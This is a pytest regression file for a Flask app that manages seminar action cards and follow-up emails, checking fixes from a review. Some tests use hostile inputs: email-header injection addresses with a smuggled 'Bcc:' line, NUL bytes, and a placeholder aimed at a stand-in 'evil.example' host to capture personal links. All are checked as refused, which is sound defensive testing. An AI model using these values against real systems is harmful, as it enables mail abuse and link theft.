"""The review's defects in what users do (issue 10), numbered as in the review; each failed on main before its fix.

Also covered elsewhere: #1 as cron runs it (tests/test_cli_processes.py), #4 (tests/test_mail_tls.py),
#6 (tests/test_card_overwrites.py, section 1), #9 (tests/test_projects.py, invitations), #12-#15
(tests/test_review_deployment.py), and every form at its limits (tests/test_field_limits.py).
"""
from __future__ import annotations

import contextvars
import datetime as dt
import io
import re

import pytest
from sqlalchemy import func, select, update

from impact.cards.models import ActionCard, CardSource, OptOut
from impact.cards.services import CardData, save_card, tag_actions
from impact.coding.models import FactorTheme
from impact.coding.services import save_theme, set_codes
from impact.column_limits import ColumnLimitError
from impact.events.models import EventKind
from impact.events.services import save_event
from impact.evidence.models import EvidenceItem, EvidenceLink, LinkOrigin, Stance
from impact.extensions import db as _db
from impact.followups.models import Campaign, FollowUp, Progress
from impact.followups.services import queue_due, save_campaign, save_response, send_campaign
from impact.mail.models import OutboxMessage, OutboxStatus
from impact.mail.outbox import purge_old_bodies, queue_email
from impact.model_types import utcnow
from impact.projects.models import PartnerGroup
from impact.toc.models import Assumption, FactorDirection
from impact.toc.services import add_factor, add_link, add_step, load_chain
from impact.trash import TrashRecord as DeletedStep
from tests import factories
from tests.test_card_overwrites import card_form, cards_url, public_url, text

HOUR = dt.timedelta(hours=1)
LONG_TITLE = ("Séminaire sur la pratique relationnelle – Ürün ✓ " * 8)[:200].strip()


def _event(project, title="First seminar"):
    event = save_event(project, None, kind=EventKind.SEMINAR, title=title, event_date=dt.date(2011, 3, 15), place="",
                       notes="", attendance={PartnerGroup.PRACTITIONER: 10})
    event.card_form_open = True
    return event


def _campaign(event, *, send_at, reminder_at=None):
    return save_campaign(event, None, subject="How did your actions go?", message="At {event} you wrote actions.",
                         reminder_message="", send_at=send_at, reminder_at=reminder_at,
                         closes_at=utcnow() + 30 * 24 * HOUR)


def _steps(project):
    return {step.title: step for step in load_chain(project.id).steps}


def without_request(app, fn):
    """Run fn as `flask jobs run` does: in an app context, with no request anywhere."""
    def run():
        with app.app_context():
            result = fn()
            _db.session.commit()
            return result
    return contextvars.Context().run(run)


# 1. Scheduled follow-ups and reminders ---------------------------------------------------

def test_follow_ups_and_reminders_due_an_hour_ago_are_queued_with_no_request_and_links_from_base_url(app, db, project):
    event = _event(project)
    save_card(event, CardData("ann@council.gov.uk", ["Write for the family"]), CardSource.PAPER)
    save_card(event, CardData("bob@council.gov.uk", ["Ask what helps"]), CardSource.PAPER)
    scheduled = _campaign(event, send_at=utcnow() - HOUR)
    earlier = _campaign(event, send_at=utcnow() - 30 * 24 * HOUR, reminder_at=utcnow() - HOUR)
    send_campaign(earlier)
    _db.session.commit()
    _db.session.execute(update(OutboxMessage).values(status=OutboxStatus.SENT))  # the earlier ones went long ago
    _db.session.commit()

    counts = without_request(app, queue_due)

    assert counts == {"follow-ups queued": 2, "reminders queued": 2}
    _db.session.expire_all()
    assert _db.session.get(Campaign, scheduled.id).sent_at is not None
    waiting = _db.session.scalars(select(OutboxMessage).where(OutboxMessage.status == OutboxStatus.PENDING)).all()
    assert sorted(m.kind for m in waiting) == ["followup", "followup", "reminder", "reminder"]
    for message in waiting:
        assert re.search(r"^http://localhost/followup/\S+$", factories.email_text(message), re.M)


def test_a_late_follow_up_says_so_and_admins_see_when_background_work_last_ran(app, client, project, login_as):
    event = _event(project)
    save_card(event, CardData("ann@council.gov.uk", ["Write for the family"]), CardSource.PAPER)
    campaign = _campaign(event, send_at=utcnow() - HOUR)
    _db.session.commit()
    admin = login_as("admin")
    page = text(client.get(f"/projects/{project.id}/events/{event.id}/followups/{campaign.id}"))
    assert "Not sent yet</strong>: it was due" in page and "Scheduled for" not in page
    assert "has never run on this site" in page and admin.name
    assert "Background work has never run" in text(client.get("/admin/jobs/"))

    result = app.test_cli_runner().invoke(args=["jobs", "run"])

    assert result.exit_code == 0, result.output
    page = text(client.get(f"/projects/{project.id}/events/{event.id}/followups/{campaign.id}"))
    assert "Not sent yet" not in page and "Queued" in page
    health = text(client.get("/admin/jobs/"))
    assert 'id="jobs-ok"' in health and "queue_due" in health and "follow-ups queued: 1" in health


def test_a_failing_piece_of_background_work_shows_with_its_error(app, client, db, login_as):
    from impact.jobs import commands

    def broken():
        raise RuntimeError("the campaign table is on fire")

    commands.due_work().append(broken)
    try:
        assert app.test_cli_runner().invoke(args=["jobs", "run"]).exit_code == 1
    finally:
        commands.due_work().remove(broken)
    login_as("admin")
    health = text(client.get("/admin/jobs/"))
    assert 'id="jobs-failing"' in health and "Failing" in health and "the campaign table is on fire" in health


# 2. Derived values never exceed their columns (on PostgreSQL; SQLite is made as strict) -------

def test_answers_for_an_event_with_a_200_character_title_are_saved(app, client, project):
    event = _event(project, LONG_TITLE)
    card, _ = save_card(event, CardData("ann@council.gov.uk", ["Write for the family"],
                                        partner_group=PartnerGroup.PRACTITIONER), CardSource.PAPER)
    campaign = _campaign(event, send_at=utcnow())
    send_campaign(campaign)
    _db.session.commit()
    followup = _db.session.scalar(select(FollowUp).where(FollowUp.card_id == card.id))
    link = re.search(r"http://localhost(/followup/[^\s/]+)\s", factories.email_text(
        _db.session.scalar(select(OutboxMessage).where(OutboxMessage.about_id == followup.id)))).group(1)
    page = client.get(link).get_data(as_text=True)
    action_id = re.search(r'name="progress_(\d+)"', page).group(1)
    saved = client.post(link, data={f"progress_{action_id}": "a_lot", "helped": "Time in team meetings",
                                    "consent_to_quote": "y"})
    assert saved.status_code == 200 and "Thank you" in saved.get_data(as_text=True)
    item = _db.session.scalar(select(EvidenceItem).where(EvidenceItem.project_id == project.id))
    assert len(item.title) == 200 and item.title.endswith("…") and item.title.startswith("Follow-up response")
    assert len(item.source) <= 200


def test_deleting_a_long_assumption_or_a_link_between_long_titled_steps_keeps_an_undoable_copy(
        client, project, login_as):
    login_as("team_member", project)
    chain = load_chain(project.id)
    assumption = chain.assumptions_by_link[chain.links[0].id][0]
    long_text = ("Managers release staff to attend, every time, with cover arranged. " * 40)[:2000]
    _db.session.execute(update(Assumption).where(Assumption.id == assumption.id).values(text=long_text))
    levels = {level.name: level for level in project.levels}
    first = add_step(project, levels["Outputs"], "A" * 199 + "é")
    second = add_step(project, levels["Reach"], "B" * 199 + "ü")
    link = add_link(project, first, second)
    _db.session.commit()
    base = f"/projects/{project.id}/chain"
    assert client.post(f"{base}/assumptions/{assumption.id}/delete", data={"confirm": "yes"}).status_code == 302
    assert client.post(f"{base}/links/{link.id}/delete", data={"confirm": "yes"}).status_code == 302
    records = _db.session.scalars(select(DeletedStep).where(DeletedStep.project_id == project.id)
                                  .order_by(DeletedStep.id)).all()
    assert [len(record.title) for record in records] == [200, 200]
    assert all(record.title.endswith("…") for record in records)
    assert client.post(f"{base}/deleted/{records[0].id}/restore").status_code == 302
    assert _db.session.get(Assumption, assumption.id).text == long_text  # the copy kept the whole text


def test_sqlite_refuses_what_postgresql_would_so_the_suite_sees_it_on_both(db, project):
    step = load_chain(project.id).steps[0]
    step.title = "x" * 201
    with pytest.raises(ColumnLimitError, match="steps.title would hold 201 characters"):
        _db.session.flush()
    _db.session.rollback()
    step = load_chain(project.id).steps[0]
    step.description = "a\x00b"
    with pytest.raises(ColumnLimitError, match="NUL"):
        _db.session.flush()
    _db.session.rollback()


# 3. NUL bytes are refused or stripped, never a 500 ----------------------------------------

def test_nul_bytes_in_paths_cells_and_notes_get_clear_answers(client, project, login_as):
    assert client.get("/cards/abc%00def").status_code == 404  # no login needed
    assert client.get("/followup/abc%00def").status_code == 404
    assert client.get("/password/reset/abc%00def").status_code in (400, 404)
    event = _event(project)
    _db.session.commit()
    login_as("team_member", project)
    upload = {"file": (io.BytesIO("email,action_1\r\nann@council.gov.uk,Write\x00 for the family\r\n".encode()),
                       "cards.csv")}
    page = client.post(cards_url(event, "import"), data=upload, content_type="multipart/form-data")
    assert page.status_code == 400
    assert "NUL character" in page.get_data(as_text=True)
    assert _db.session.scalar(select(ActionCard.id)) is None
    response = save_response_for_new_card(project, event)
    link = response.evidence_item.links[0]
    judged = client.post(f"/projects/{project.id}/evidence-links/{link.id}",
                         data={"stance": "mixed", "strength": "weak", "note": "Half\x00 true"})
    assert judged.status_code == 302
    _db.session.expire_all()
    assert _db.session.get(EvidenceLink, link.id).note == "Half true"


def save_response_for_new_card(project, event, email="zed@council.gov.uk", *, tagged=True, **answers):
    card, _ = save_card(event, CardData(email, ["Write for the family"], partner_group=PartnerGroup.PRACTITIONER),
                        CardSource.PAPER)
    if tagged:
        tag_actions(project, event, [card.actions[0].id], _steps(project)["Seminars"])
    campaign = _campaign(event, send_at=utcnow())
    send_campaign(campaign)
    followup = _db.session.scalar(select(FollowUp).where(FollowUp.card_id == card.id))
    response = save_response(followup, progress={card.actions[0].id: (Progress.SOME, "", "")},
                             **{"helped": "", "hindered": "", "anything_else": "", "consent_to_quote": False,
                                **answers})
    _db.session.commit()
    return response


# 5. Addresses are bare mailboxes, in one normal form ----------------------------------------

TRICKS = ["x<victim@example.org>", "Victim <victim@example.org>", "(c)victim@example.org", "a,b@example.org",
          "=?utf-8?q?victim=40example.org?=@example.org", "victim@example.org\r\nBcc: x@example.org"]


@pytest.mark.parametrize("address", TRICKS)
def test_card_forms_refuse_addresses_that_could_mail_someone_else(client, project, login_as, address):
    event = _event(project)
    _db.session.commit()
    login_as("team_member", project)
    for url in (cards_url(event, "new"), public_url(event)):
        page = client.post(url, data=card_form(address, actions=["Try it"], submit="y"))
        assert page.status_code == 400, url
        assert re.search(r'id="email-error">.*Enter an email address like name@council.gov.uk', text(page))
    assert _db.session.scalar(select(ActionCard.id)) is None
    with pytest.raises(ValueError):
        queue_email(kind="test", to=address, subject="x", body="x")


def test_an_opt_out_holds_for_every_spelling_of_the_address(client, project, login_as):
    event = _event(project)
    _db.session.add(OptOut(project_id=project.id, email="victim@example.org"))
    _db.session.commit()
    login_as("team_member", project)
    assert client.post(cards_url(event, "new"), data=card_form(" Victim@EXAMPLE.org ", actions=["Try"],
                                                                submit="y")).status_code == 302
    card = _db.session.scalar(select(ActionCard))
    assert card.email == "victim@example.org" and card.opted_out_at is not None
    assert send_campaign(_campaign(event, send_at=utcnow())) == 0


# 7. Coding follows the direction of the words coded ------------------------------------------

def test_hindering_text_evidences_hindering_factors_with_its_own_words(client, project, login_as):
    event = _event(project)
    practice = _steps(project)["Reports written for the client"]
    helping = add_factor(practice, "Protected time for the work", FactorDirection.HELPING)
    hindering = next(f for f in load_chain(project.id).factors_by_step[practice.id] if f.title == "Heavy caseloads")
    theme = FactorTheme(project_id=project.id, name="Time and caseload")
    _db.session.add(theme)
    _db.session.flush()
    save_theme(project, theme, name=theme.name, description="", factor_ids=[helping.id, hindering.id])
    response = save_response_for_new_card(project, event, helped="My manager protected Fridays for it",
                                          hindered="My caseload doubled in March", consent_to_quote=True)
    set_codes(project, response, {(theme.id, FactorDirection.HINDERING)})
    _db.session.commit()
    links = {link.factor_id: link for link in response.evidence_item.links if link.factor_id}
    assert set(links) == {hindering.id}  # no "support" for the helping factor from a complaint
    assert (links[hindering.id].stance, links[hindering.id].quote) == (Stance.SUPPORTS, "My caseload doubled in March")
    set_codes(project, response, {(theme.id, FactorDirection.HINDERING), (theme.id, FactorDirection.HELPING)})
    _db.session.commit()
    _db.session.expire_all()
    quotes = {link.factor_id: link.quote for link in _db.session.get(EvidenceItem, response.evidence_item_id).links
              if link.factor_id}
    assert quotes == {hindering.id: "My caseload doubled in March", helping.id: "My manager protected Fridays for it"}
    login_as("lead", project)
    story = text(client.get(f"/projects/{project.id}/story/?open=all"))
    # The funder's story: under each factor, the words about it (the factors are listed in the order made).
    caseloads, _, protected = story.partition("<strong>Heavy caseloads</strong>")[2].partition(
        "<strong>Protected time for the work</strong>")
    assert "“My caseload doubled in March”" in caseloads and "Fridays" not in caseloads
    assert "“My manager protected Fridays for it”" in protected.split("</ul>")[0]


# 8. Tags added after an answer reach it ----------------------------------------------------

def test_tagging_an_answered_action_links_its_response_and_keeps_the_teams_own_judgement(client, project, login_as):
    event = _event(project)
    response = save_response_for_new_card(project, event, tagged=False)
    item_id = response.evidence_item_id
    action_id = response.progress[0].action_id
    steps = _steps(project)
    login_as("team_member", project)
    tags = cards_url(event, "tags")
    for step in ("Seminars", "Attendees from six councils"):
        added = client.post(tags, data={"action_ids": [action_id], "step_id": steps[step].id, "add": "y"})
        assert added.status_code == 302
    _db.session.expire_all()
    links = {link.step_id: link for link in _db.session.get(EvidenceItem, item_id).links}
    assert set(links) == {steps["Seminars"].id, steps["Attendees from six councils"].id}
    assert all(link.origin is LinkOrigin.ACTION_MAPPING for link in links.values())
    judged = links[steps["Seminars"].id]
    client.post(f"/projects/{project.id}/evidence-links/{judged.id}", data={"stance": "challenges", "strength": "weak"})
    for step in ("Seminars", "Attendees from six councils"):
        client.post(tags, data={"action_ids": [action_id], "step_id": steps[step].id, "remove": "y"})
    _db.session.expire_all()
    left = _db.session.get(EvidenceItem, item_id).links
    assert [(link.step_id, link.stance, link.origin) for link in left] == [
        (steps["Seminars"].id, Stance.CHALLENGES, LinkOrigin.MANUAL)]


# 11. The outbox keeps no live secrets ------------------------------------------------------

@pytest.mark.smtp
def test_stored_mail_holds_no_working_link_and_old_bodies_are_removed(app, client, db, smtp_server):
    user = factories.user("Ann", email="ann@example.org")
    assert client.post("/password/forgot", data={"email": user.email}).status_code == 302
    message = _db.session.scalar(select(OutboxMessage))
    assert "/password/reset/" not in message.body_text + message.body_html
    from impact.mail.outbox import deliver_due
    assert deliver_due()["sent"] == 1
    [received] = smtp_server.messages
    link = re.search(r"http://localhost(/password/reset/\S+)", received.get_body(("plain",)).get_content()).group(1)
    assert client.get(link).status_code == 200  # the emailed link works...
    _db.session.expire_all()
    stored = _db.session.get(OutboxMessage, message.id)
    assert "/password/reset/" not in stored.body_text  # ...and was never stored
    stored.created_at = utcnow() - dt.timedelta(days=app.config["OUTBOX_RETENTION_DAYS"] + 1)
    _db.session.commit()
    assert without_request(app, purge_old_bodies) == {"bodies removed": 1}
    _db.session.expire_all()
    stored = _db.session.get(OutboxMessage, message.id)
    assert (stored.body_text, stored.purged_at is not None, stored.to_address) == ("", True, "ann@example.org")


# Found by the review of these fixes -------------------------------------------------------

def test_link_placeholders_typed_by_someone_else_are_never_filled(app, db, project):
    """A card's name, a campaign's message or a title is quoted in the email: a placeholder typed there
    must stay text, or a stranger could have the recipient's personal link sent to their own site."""
    event = _event(project)
    trap = "Sam. See https://evil.example/?u=[[link:respond]] or [[link:respond:0123456789abcdef]]"
    save_card(event, CardData("sam@council.gov.uk", ["Write for the family"], name=trap), CardSource.PAPER)
    send_campaign(_campaign(event, send_at=utcnow()))
    _db.session.commit()
    sent = factories.email_text(_db.session.scalar(select(OutboxMessage)))
    assert trap in sent
    assert len(re.findall(r"http://localhost/followup/[^\s/]+(?:\s|$)", sent)) == 1


def test_an_unusable_old_address_does_not_stop_reminders_for_everyone_else(app, db, project):
    event = _event(project)
    legacy, _ = save_card(event, CardData("legacy@example.org", ["Write"]), CardSource.PAPER)
    save_card(event, CardData("ann@council.gov.uk", ["Ask"]), CardSource.PAPER)
    campaign = _campaign(event, send_at=utcnow() - 30 * 24 * HOUR, reminder_at=utcnow() - HOUR)
    send_campaign(campaign)
    # Stored before addresses were checked (the old pattern let this in).
    _db.session.execute(update(ActionCard).where(ActionCard.id == legacy.id).values(email="legacy<legacy@example.org>"))
    later = _event(project, "Later seminar")
    save_card(later, CardData("bob@council.gov.uk", ["Listen"]), CardSource.PAPER)
    _campaign(later, send_at=utcnow() - HOUR)
    _db.session.commit()
    assert without_request(app, queue_due) == {"follow-ups queued": 1, "reminders queued": 1}
    followup = _db.session.scalar(select(FollowUp).where(FollowUp.card_id == legacy.id))
    assert followup.bounced_at is not None and "not a plain, valid address" in followup.bounce_reason


def test_sending_the_card_form_in_a_loop_emails_the_address_once(client, project):
    event = _event(project)
    save_card(event, CardData("sam@council.gov.uk", ["Ask for a second opinion"]), CardSource.ONLINE)
    paper, _ = save_card(event, CardData("ann@council.gov.uk", ["Write for the family"]), CardSource.PAPER)
    _db.session.commit()
    for attempt in range(5):
        for email in ("sam@council.gov.uk", "ann@council.gov.uk"):
            response = client.post(public_url(event), data=card_form(email, actions=[f"Attempt {attempt}"]))
            assert response.status_code == 200
    counts = dict(_db.session.execute(
        select(OutboxMessage.to_address, func.count()).group_by(OutboxMessage.to_address)).all())
    assert counts == {"sam@council.gov.uk": 1, "ann@council.gov.uk": 1}
    # The one link sent confirms the newest version.
    from impact.cards.models import CardConfirmation
    [waiting] = _db.session.scalars(select(CardConfirmation)).all()
    assert waiting.proposed["actions"][0] == "Attempt 4"
